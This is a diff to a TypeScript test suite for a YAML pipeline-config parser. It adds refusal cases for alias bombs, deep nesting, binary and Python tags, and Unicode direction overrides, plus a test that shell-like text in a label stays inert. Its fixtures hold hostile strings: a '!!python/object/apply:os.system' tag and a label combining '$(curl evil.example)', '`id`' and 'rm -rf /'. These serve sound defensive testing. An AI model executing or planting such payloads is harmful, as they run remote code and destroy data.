@@ -54,7 +54,15 @@ describe('parsePipeline', () => {
     'a tab for indentation': ['data:\n\tlabel: species\n', /Tabs are not allowed/],
     'an alias to nothing': [`${PIPELINE_YAML}train: *nothing\n`, /nothing/],
     'an unknown tag': [`${PIPELINE_YAML}train: !!js/function "x"\n`, /tag/i],
-    'aliases that grow without bound': [aliasBomb(), /alias/i],
+    'aliases that grow without bound': [aliasBomb(), /Excessive alias count/],
+    'an empty file': ['', /it is empty$/],
+    'a file of comments': ['# name: flowers\n', /it is empty$/],
+    'a tag of binary data': [PIPELINE_YAML.replace('name: ', 'name: !!binary '), /tag/],
+    'a tag of Python': [`${PIPELINE_YAML}x: !!python/object/apply:os.system ["id"]\n`, /tag/],
+    'an alias that turns the line round': [`${PIPELINE_YAML}x: *a\u202eb\n`, /\\u\{202e\}/],
+    'lists without end': ['['.repeat(60_000), /nested too deep$/],
+    'maps without end': ['{a: '.repeat(15_000), /nested too deep$/],
+    'list items without end': ['- '.repeat(30_000), /nested too deep$/],
   };
   for (const [title, [text, message]] of Object.entries(unreadable)) {
     it(`refuses ${title}`, () => {
@@ -69,14 +77,13 @@ describe('parsePipeline', () => {
   }
 
   it('refuses a file too large to be written by hand', () => {
-    const {code, message} = refusal(`${PIPELINE_YAML}#${'x'.repeat(256 * 1024)}`);
+    const {code, message} = refusal(`${PIPELINE_YAML}#${'x'.repeat(64 * 1024)}`);
 
     assert.equal(code, 'CONFIG_TOO_LARGE');
-    assert.match(message, /at most 262144/);
+    assert.match(message, /at most 65536/);
   });
 
   const invalid: Record<string, readonly [string, string | RegExp]> = {
-    'an empty file': ['', /^the file: .*expected object/],
     'a list': ['- name: flowers\n', /^the file: /],
     'an unknown key': [
       PIPELINE_YAML.replace('maxTrials', 'maxTrails'),
@@ -121,6 +128,17 @@ describe('parsePipeline', () => {
       PIPELINE_YAML.replace('{model: flowers, endpoint: flowers}', 'nowhere'),
       'serve: expected none, or a map with model and endpoint',
     ],
+    'a merge key of YAML 1.1': [
+      `%YAML 1.1\n---\n${PIPELINE_YAML.replace('split: {}', 'split: {<<: {buckets: 7}}')}`,
+      /^split\.<< is not a known key/,
+    ],
+    infinity: [PIPELINE_YAML.replace('0.1]', '1e400]'), /alpha\.double\.1: .*received Infinity/],
+    'a number in quotes': [PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: "2"'), /^tune\.maxTrials: /],
+    'a number with an underscore': [
+      PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: 1_0'),
+      /^tune\.maxTrials: /,
+    ],
+    'a date': [PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: 2024-01-01'), /^tune\.maxTrials: /],
     'two mistakes': [
       PIPELINE_YAML.replace('name: flowers', 'name: Flowers').replace('metric: accuracy', 'metric: 7'),
       /^name: .*; tune\.metric: /,
@@ -137,6 +155,20 @@ describe('parsePipeline', () => {
       assert.match(hint ?? '', /millrace push/);
     });
   }
+
+  it('takes a byte order mark, and a tab as delimiter', () => {
+    const text = PIPELINE_YAML.replace('label: species', String.raw`label: species, delimiter: "\t"`);
+
+    assert.equal(parsePipeline(`\uFEFF${text}`, WHERE).pipeline.data.delimiter, '\t');
+  });
+
+  it('leaves what a shell would read as it is: nothing reaches one', () => {
+    const label = '$(curl evil.example) `id` $PROJECT_ID; rm -rf /';
+
+    const {pipeline} = parsePipeline(PIPELINE_YAML.replace('species', `'${label}'`), WHERE);
+
+    assert.equal(pipeline.data.label, label);
+  });
 
   it('throws nothing but a permanent error, whatever the text', () => {
     const anyText = fc.oneof(
